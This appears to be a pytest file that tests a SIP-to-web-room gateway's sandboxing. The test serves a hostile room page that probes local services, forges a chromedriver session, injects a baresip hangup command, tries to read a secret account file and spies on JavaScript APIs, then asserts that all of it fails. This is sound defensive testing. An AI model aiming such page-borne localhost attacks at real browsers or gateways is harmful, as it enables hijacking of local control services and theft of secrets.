"""The room page is untrusted: a hostile room page, shown by a gateway that the real CLI launched from the real image
(so with the seccomp profile the engine backend gives it), attacks every local service of the gateway during a real
call, and gets nothing.

The page is served by this test on the Docker bridge (its origin: plain http on the bridge address, as a remote room
would be). Before the call the test reads every listening TCP socket of the container (/proc/net/tcp and tcp6, with
the process owning each) and hands the list to the page (it fetches it from its own origin). During the call the page
repeatedly tries fetch (CORS and no-cors), XHR, WebSocket, <img>, a no-cors POST of a chromedriver "new session"
and of a baresip `hangup` netstring against each of them, and fetch, XHR, <img> and <iframe> against the account
file; it also spies on everything the gateway's own script could betray the camera relay's URL through (fetch, XHR,
Response, Worker, resource timing, window.__sipmediagw), and measures its microphone and camera. It posts what it got
to its own origin (the only place it may send to), and the test asserts: the call and the in-call state never
dropped, baresip's control connection was never taken (no "ctrl_tcp connection lost"), nothing was read anywhere, the
ports Chromium refuses were not even connected to, no chromedriver session was made, the relay's URL never leaked,
the camera and microphone kept working, and the secret appears nowhere.

Fixtures (client, bridge_ip, registrar, caller, start_gateway) come from test_gateway.py.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import threading
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from sipmediagw import seccomp
from sipmediagw.gateway.baresip import CTRL_PORT
from sipmediagw.testbed.caller import BaresipCaller
from sipmediagw.testbed.kamailio import Kamailio
from sipmediagw.testbed.network import free_port

from cli_gateway import CliGateway, launched
from test_gateway import (DOMAIN, Gateway, _wait, bridge_ip, caller, client, registrar,  # noqa: F401 (fixtures)
                          start_gateway)

pytestmark = pytest.mark.docker

SECRET = "Hostile-Secret-9341"
USER = "gwhostile"
GATEWAY = f"hostile-{os.getpid()}"
READY_TIMEOUT = 180
ATTACK_SECONDS = 25
ACCOUNT_FILE = "/run/secrets/sipmediagw-account"
PROOF_DIR = "/tmp/hostile-chromedriver-session"  # made by a Chromium that a forged chromedriver session would start

ROOM_DRIVER = '''
from sipmediagw.room import Room


class HostileRoom(Room):
    """The room is whatever page the test serves: the gateway opens it and leaves it to itself."""

    platform = "hostile"

    def url(self):
        return self.base_url + "/hostile.html"

    def join(self, display_name):
        self.driver.get(self.url())

    def leave(self):
        self.driver.get("about:blank")
'''

HOSTILE_PAGE = r"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>hostile</title></head><body><h1>a hostile room</h1>
<script>
'use strict';
// 1. Spy, before the gateway's camera starts, on everything its script could leak the relay's URL through.
const own = new Set();  // URLs this page asked for itself (seeing them again is no leak)
const leaks = [];
function note(where, value) {
  let text;
  try { text = typeof value === 'string' ? value : JSON.stringify(value); } catch (e) { text = String(value); }
  if (text && /127\.0\.0\.1|localhost|\[::1\]/.test(text) && !own.has(text)) {
    leaks.push(where + ': ' + text.slice(0, 300));
  }
}
const realFetch = window.fetch;
window.fetch = function (input, init) { note('fetch', input && input.url ? input.url : String(input)); return realFetch.apply(this, arguments); };
const realOpen = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function (method, url) { note('xhr', String(url)); return realOpen.apply(this, arguments); };
for (const name of ['ok', 'status', 'body', 'url']) {
  const d = Object.getOwnPropertyDescriptor(Response.prototype, name);
  Object.defineProperty(Response.prototype, name, { configurable: true, get() { const v = d.get.call(this); note('Response.' + name, d.get === undefined ? '' : (name === 'url' ? v : this.url)); return v; } });
}
const RealWorker = window.Worker;
const realPost = RealWorker.prototype.postMessage;
RealWorker.prototype.postMessage = function (message) { note('Worker.postMessage', message); return realPost.apply(this, arguments); };
window.Worker = function (url, options) { note('new Worker', String(url)); return new RealWorker(url, options); };
performance.setResourceTimingBufferSize(100000);
new PerformanceObserver(function (list) { list.getEntries().forEach(function (e) { note('resource timing', e.name); }); })
  .observe({ type: 'resource', buffered: true });

const media = { frames: null, level: null, error: null, config: null, stats: null };
let level = function () { return null; };
async function startMedia() {
  try {
    const stream = await navigator.mediaDevices.getUserMedia({ audio: true, video: true });
    const ctx = new AudioContext();
    await ctx.resume();
    const analyser = ctx.createAnalyser();
    analyser.fftSize = 2048;
    ctx.createMediaStreamSource(new MediaStream(stream.getAudioTracks())).connect(analyser);
    const buf = new Float32Array(analyser.fftSize);
    level = function () {
      analyser.getFloatTimeDomainData(buf);
      let sum = 0;
      for (const v of buf) { sum += v * v; }
      return Math.sqrt(sum / buf.length);
    };
    window.keep = stream;
  } catch (e) {
    media.error = String(e);
  }
}
function mediaNow() {
  const g = window.__sipmediagw;
  media.config = g ? JSON.stringify(g.config) : null;
  note('window.__sipmediagw.config', media.config);
  media.stats = g && g.stats ? g.stats() : null;
  media.frames = media.stats ? media.stats.frames : null;
  media.level = level();
  return Object.assign({}, media);
}

// 2. Attack.
function within(promise, ms) {
  return Promise.race([promise, new Promise(function (ok) { setTimeout(function () { ok({ outcome: 'timeout' }); }, ms); })]);
}
function mark(url) { own.add(new URL(url).href); own.add(url); return url; }
const NETSTRING = (function () { const j = '{"command":"hangup","params":"","token":"x"}'; return j.length + ':' + j + ','; })();
const NEW_SESSION = JSON.stringify({ capabilities: { alwaysMatch: { browserName: 'chrome', 'goog:chromeOptions': {
  binary: '/usr/bin/chromium', args: ['--headless=new', '--user-data-dir=__PROOF__'] } } } });

const probes = {
  'fetch cors': async function (url) {
    const r = await fetch(mark(url), { mode: 'cors', cache: 'no-store' });
    return { outcome: 'read', read: (await r.text()).slice(0, 400), status: r.status };
  },
  'fetch no-cors': async function (url) {
    const r = await fetch(mark(url), { mode: 'no-cors', cache: 'no-store' });
    return { outcome: 'answered', type: r.type };
  },
  'post session': async function (url) {
    const r = await fetch(mark(url.replace(/\/[^/]*$/, '/session')), { method: 'POST', mode: 'no-cors', body: NEW_SESSION });
    return { outcome: 'answered', type: r.type };
  },
  'post netstring': async function (url) {
    const r = await fetch(mark(url), { method: 'POST', mode: 'no-cors', body: NETSTRING });
    return { outcome: 'answered', type: r.type };
  },
  'xhr': function (url) {
    return new Promise(function (ok) {
      const x = new XMLHttpRequest();
      x.open('GET', mark(url));
      x.onload = function () { ok({ outcome: 'read', read: String(x.responseText).slice(0, 400), status: x.status }); };
      x.onerror = function () { ok({ outcome: 'refused' }); };
      x.send();
    });
  },
  'img': function (url) {
    return new Promise(function (ok) {
      const i = new Image();
      i.onload = function () { ok({ outcome: 'read', read: 'image ' + i.naturalWidth + 'x' + i.naturalHeight }); };
      i.onerror = function () { ok({ outcome: 'refused' }); };
      i.src = mark(url);
    });
  },
  'websocket': function (url) {
    return new Promise(function (ok) {
      let ws;
      try { ws = new WebSocket(mark(url.replace(/^http/, 'ws'))); } catch (e) { ok({ outcome: 'refused', error: String(e) }); return; }
      ws.onopen = function () { ws.send(NETSTRING); ok({ outcome: 'read', read: 'websocket open' }); ws.close(); };
      ws.onerror = function () { ok({ outcome: 'refused' }); };
    });
  },
  'iframe': function (url) {
    return new Promise(function (ok) {
      const f = document.createElement('iframe');
      f.onload = function () {
        let text = null;
        try { text = f.contentDocument ? f.contentDocument.documentElement.innerText : null; } catch (e) { text = null; }
        ok(text ? { outcome: 'read', read: text.slice(0, 400) } : { outcome: 'refused', note: 'loaded, unreadable' });
        f.remove();
      };
      f.src = mark(url);
      document.body.appendChild(f);
    });
  },
};
async function probe(how, url) {
  try {
    const r = await within(probes[how](url), 4000);
    return Object.assign({ how: how, url: url }, r);
  } catch (e) {
    return { how: how, url: url, outcome: 'refused', error: String(e).slice(0, 200) };
  }
}
const HTTP_PATHS = ['/', '/json/version', '/json/list', '/status', '/stream', '/snapshot.jpg'];
const SECRET_URL = 'file://__ACCOUNT_FILE__';

async function report(body) {
  await realFetch('/report', { method: 'POST', body: JSON.stringify(body) });
}

(async function () {
  await startMedia();
  const targets = await (await realFetch('/targets')).json();
  await report({ hello: true, media: mediaNow() });
  const started = Date.now();
  let round = 0;
  do {
    round += 1;
    const results = [];
    for (const t of targets) {
      const base = 'http://' + t.host + ':' + t.port;
      for (const path of HTTP_PATHS) {
        for (const how of ['fetch cors', 'fetch no-cors', 'xhr', 'img']) {
          results.push(await probe(how, base + path));
        }
      }
      for (const how of ['websocket', 'post session', 'post netstring']) {
        results.push(await probe(how, base + '/'));
      }
    }
    for (const how of ['fetch cors', 'xhr', 'img', 'iframe']) {
      results.push(await probe(how, SECRET_URL));
    }
    (performance.getEntriesByType('resource') || []).forEach(function (e) { note('resource timing (buffer)', e.name); });
    await report({ round: round, results: results, leaks: leaks.splice(0), media: mediaNow(), t: Date.now() - started });
  } while (Date.now() - started < __SECONDS__ * 1000);
  await report({ done: true, rounds: round, leaks: leaks.splice(0), media: mediaNow() });
})();
</script></body></html>
"""

LISTENING = r"""
import json, os
def v4(hexaddr):
    return '.'.join(str(int(hexaddr[i:i + 2], 16)) for i in (6, 4, 2, 0))
def v6(hexaddr):
    if hexaddr == '0' * 32: return '::'
    if hexaddr == '0' * 24 + '01000000': return '::1'
    if hexaddr.startswith('0' * 16 + 'FFFF0000'): return v4(hexaddr[24:])
    return 'v6:' + hexaddr
sockets = {}
for name, parse in (('/proc/net/tcp', v4), ('/proc/net/tcp6', v6)):
    for line in open(name).read().splitlines()[1:]:
        f = line.split()
        if f[3] == '0A':
            address, port = f[1].split(':')
            sockets[f[9]] = (parse(address), int(port, 16))
owners = {}
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
        comm = open(f'/proc/{pid}/comm').read().strip()
    except OSError:
        continue
    for fd in fds:
        try:
            link = os.readlink(f'/proc/{pid}/fd/{fd}')
        except OSError:
            continue
        if link.startswith('socket:[') and link[8:-1] in sockets:
            owners[link[8:-1]] = comm
print(json.dumps([{'ip': ip, 'port': port, 'process': owners.get(inode, '?')} for inode, (ip, port) in sockets.items()]))
"""

PROCESSES = r"""
import json, os
me = None
out = []
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        argv = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
        status = dict(l.split(':', 1) for l in open(f'/proc/{pid}/status').read().splitlines() if ':' in l)
    except OSError:
        continue
    entry = {'pid': int(pid), 'argv': [a.decode(errors='replace') for a in argv if a],
             'seccomp': status.get('Seccomp', '').strip()}
    for ns in ('user', 'pid', 'net'):
        try:
            entry[ns] = os.readlink(f'/proc/{pid}/ns/{ns}')
        except OSError as exc:
            entry[ns] = 'unreadable: ' + exc.strerror
    try:
        entry['root'] = os.readlink(f'/proc/{pid}/root')
    except OSError as exc:
        entry['root'] = 'unreadable: ' + exc.strerror
    out.append(entry)
print(json.dumps(out))
"""


class HostileSite:
    """The hostile room's web server on the Docker bridge: the page, the target list, and the page's reports."""

    def __init__(self, ip: str) -> None:
        self.targets: list[dict[str, Any]] = []
        self.reports: list[dict[str, Any]] = []
        self.lock = threading.Lock()
        page = (HOSTILE_PAGE.replace("__ACCOUNT_FILE__", ACCOUNT_FILE).replace("__PROOF__", PROOF_DIR)
                .replace("__SECONDS__", str(ATTACK_SECONDS))).encode()
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                if self.path.startswith("/hostile.html"):
                    self._send(200, "text/html", page)
                elif self.path == "/targets":
                    with site.lock:
                        self._send(200, "application/json", json.dumps(site.targets).encode())
                else:
                    self._send(404, "text/plain", b"")

            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/report":
                    with site.lock:
                        site.reports.append(json.loads(body))
                self._send(204, "text/plain", b"")

            def _send(self, code: int, kind: str, body: bytes) -> None:
                self.send_response(code)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.port = free_port(ip)
        self.server = http.server.ThreadingHTTPServer((ip, self.port), Handler)
        self.url = f"http://{ip}:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def done(self) -> bool:
        with self.lock:
            return any(r.get("done") for r in self.reports)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def site(bridge_ip: str) -> Iterator[HostileSite]:  # noqa: F811
    served = HostileSite(bridge_ip)
    yield served
    served.close()


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory, real_gateway_image: str, client: Any,  # noqa: F811
            site: HostileSite, bridge_ip: str, registrar: Kamailio) -> Iterator[CliGateway]:  # noqa: F811
    made = CliGateway(tmp_path_factory.mktemp("hostile"), image=real_gateway_image, platform="hostile",
                      driver=ROOM_DRIVER, base_url=site.url, bridge=bridge_ip, registrar=registrar, user=USER,
                      secret=SECRET, domain=DOMAIN, gateway=GATEWAY, ready_timeout=READY_TIMEOUT)
    with launched(client, made) as running:
        yield running


def test_without_the_profile_the_gateway_falls_back_to_no_sandbox_and_says_so(start_gateway: Any) -> None:  # noqa: F811
    """Docker's default seccomp profile (what a swarm service gets): the probe finds no user namespaces."""
    gw: Gateway = start_gateway("gw-nosandbox")  # test_gateway's container: no-new-privileges, no profile of ours
    state = gw.wait_state("ready")
    assert state["sandbox"].startswith("off: new user/PID/network namespaces refused: Operation not permitted"), state
    assert "chromium sandbox: OFF, chromium runs with --no-sandbox" in (gw.log_dir / "app.log").read_text()
    code, out = gw.exec("for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done | grep -c -- --no-sandbox")
    assert code == 0 and int(out) >= 1, out


def test_a_launched_gateway_runs_chromium_sandboxed(gateway: CliGateway, client: Any) -> None:  # noqa: F811
    host_config = client.api.inspect_container(gateway.container.id)["HostConfig"]
    assert host_config["CapDrop"] == ["ALL"]
    assert host_config["SecurityOpt"] == ["no-new-privileges", seccomp.security_opt()]
    assert gateway.state()["sandbox"] == "on"
    assert "chromium sandbox: on (" in gateway.app_log()
    processes = gateway.python(PROCESSES)
    supervisor = next(p for p in processes if p["argv"][1:3] == ["-m", "sipmediagw.gateway"])
    chromium = [p for p in processes if p["argv"] and "chromium" in p["argv"][0]]
    renderers = [p for p in chromium if "--type=renderer" in " ".join(p["argv"])]
    assert renderers, chromium
    assert not [p for p in chromium if "--no-sandbox" in " ".join(p["argv"])]
    for renderer in renderers:
        # its own user, PID and network namespaces, Chromium's seccomp-bpf filter, and no filesystem we can see
        assert renderer["user"].startswith("user:[") and renderer["user"] != supervisor["user"], renderer
        assert renderer["pid"] != supervisor["pid"] and renderer["net"] != supervisor["net"], renderer
        assert renderer["seccomp"] == "2", renderer
        assert renderer["root"] != "/", renderer


def test_a_hostile_room_page_reaches_nothing_during_a_call(gateway: CliGateway, site: HostileSite,
                                                          caller: BaresipCaller) -> None:  # noqa: F811
    listening = gateway.python(LISTENING)
    by_port = {entry["port"]: entry for entry in listening}
    relay = re.search(r"camera: serving (http://127\.0\.0\.1:(\d+)/([\w-]+)/stream)", gateway.app_log())
    assert relay, gateway.report()
    relay_port, token = int(relay[2]), relay[3]
    assert by_port[CTRL_PORT]["process"] == "baresip" and by_port[CTRL_PORT]["ip"] == "127.0.0.1"
    assert by_port[relay_port]["process"] == "python3"
    assert {"chromedriver", "chromium"} <= {entry["process"] for entry in listening}, listening
    gateway.container.reload()
    container_ip = gateway.container.attrs["NetworkSettings"]["IPAddress"]
    targets = []
    for entry in listening:  # every address the page could use for each listening socket
        hosts = {"0.0.0.0": ["127.0.0.1", container_ip], "::": ["127.0.0.1", container_ip, "[::1]"],
                 "::1": ["[::1]"]}.get(entry["ip"], [entry["ip"]])
        targets += [{"host": host, "port": entry["port"], "process": entry["process"]} for host in hosts]
    site.targets = targets
    chromium_before = _browser_processes(gateway)

    caller.dial(f"sip:{USER}@{DOMAIN}")
    caller.wait_established(30)
    _wait(lambda: gateway.state().get("state") == "in-call", 60, "in-call", gateway.report)
    _wait(lambda: any(r.get("hello") for r in site.reports), 60, "the hostile page to start", gateway.report)
    deadline = time.monotonic() + ATTACK_SECONDS + 180
    while not site.done():  # the whole attack: the call and the gateway's state never move
        assert time.monotonic() < deadline, f"the page did not finish: {site.reports[-1:]}\n{gateway.report()}"
        assert caller.in_call(), f"the call dropped under attack\n{gateway.report()}"
        assert gateway.state().get("state") == "in-call", gateway.report()
        time.sleep(0.5)
    assert caller.in_call() and gateway.state()["state"] == "in-call"

    reports = list(site.reports)
    rounds = [r for r in reports if "results" in r]
    assert len(rounds) >= 2, reports
    results = [result for r in rounds for result in r["results"]]
    read = [r for r in results if r["outcome"] == "read"]
    # nothing readable anywhere: not baresip, chromedriver, DevTools, the relay (no token), nor the account file
    assert read == [], json.dumps(read[:10], indent=1)
    # the ports Chromium refuses (baresip's control port, SIP) were not even connected to: no probe got an answer
    # ("timeout": no answer within 4 s on a loaded machine, e.g. Chromium delaying WebSockets to one address)
    refused_ports = {CTRL_PORT} | {p for p, e in by_port.items() if e["process"] == "baresip"}
    answered = [r for r in results if r["outcome"] in ("answered", "read") and _port(r["url"]) in refused_ports]
    assert answered == [], json.dumps(answered[:10], indent=1)
    print("\nwhat the hostile page got, by listening process and probe (outcome: count):")
    for line in _summary(results, by_port):
        print("  " + line)
    assert {_port(r["url"]) for r in results} >= set(by_port), "some listening port was never attacked"
    assert [r for r in results if r["url"].startswith("file:")], "the account file was never attacked"
    # the relay's URL never reached the page, by any of its spies
    leaks = [leak for r in reports for leak in r.get("leaks", [])]
    assert leaks == [], leaks
    assert not any(token in json.dumps(r) for r in reports)
    assert SECRET not in json.dumps(reports)
    # the camera and the microphone worked throughout (the sandboxed renderer and audio service, the relay's worker)
    first, last = rounds[0]["media"], rounds[-1]["media"]
    assert last["error"] is None, last
    assert "cameraUrl" not in (last["config"] or "") and "127.0.0.1" not in (last["config"] or ""), last
    seconds = (rounds[-1]["t"] - rounds[0]["t"]) / 1000
    assert last["frames"] - first["frames"] >= 2 * seconds > 0, (first, last, seconds)  # the relay kept streaming
    assert last["level"] and last["level"] > 0.01, last  # the caller's 1 kHz tone on the page's microphone
    # baresip's single control connection stayed the supervisor's, no chromedriver session was forged
    log = gateway.app_log()
    assert "ctrl_tcp connection lost" not in log and "ctrl_tcp reconnect" not in log
    assert _browser_processes(gateway) == chromium_before
    code, _ = gateway.container.exec_run(["test", "-e", PROOF_DIR])
    assert code != 0, "a page made chromedriver start a browser"
    # and the relay still serves the caller's video on its token path
    code, out = gateway.container.exec_run(
        ["python3", "-c", f"import sys, urllib.request; sys.stdout.buffer.write(urllib.request.urlopen("
                          f"'http://127.0.0.1:{relay_port}/{token}/snapshot.jpg', timeout=10).read()[:2])"])
    assert (code, out) == (0, b"\xff\xd8")

    caller.hangup()
    caller.wait_closed(30)
    _wait(lambda: gateway.state().get("state") == "ready", 60, "ready after the call", gateway.report)


def _summary(results: list[dict[str, Any]], by_port: dict[int, dict[str, Any]]) -> list[str]:
    counts: dict[tuple[str, str], dict[str, int]] = {}
    for result in results:
        port = _port(result["url"])
        target = result["url"] if port is None else f"{by_port.get(port, {}).get('process', '?')}:{port}"
        outcomes = counts.setdefault((target, result["how"]), {})
        outcomes[result["outcome"]] = outcomes.get(result["outcome"], 0) + 1
    return [f"{target:<22} {how:<14} {outcomes}" for (target, how), outcomes in sorted(counts.items())]


def _port(url: str) -> int | None:
    match = re.match(r"^[a-z]+://(?:\[[^\]]+\]|[^/:]+):(\d+)", url)
    return int(match[1]) if match else None


def _browser_processes(gateway: CliGateway) -> list[int]:
    """The Chromium browser processes (not its helpers): a forged chromedriver session would add one."""
    return sorted(p["pid"] for p in gateway.python(PROCESSES)
                  if p["argv"] and p["argv"][0].endswith("chromium") and not any(a.startswith("--type=")
                                                                                 for a in p["argv"]))
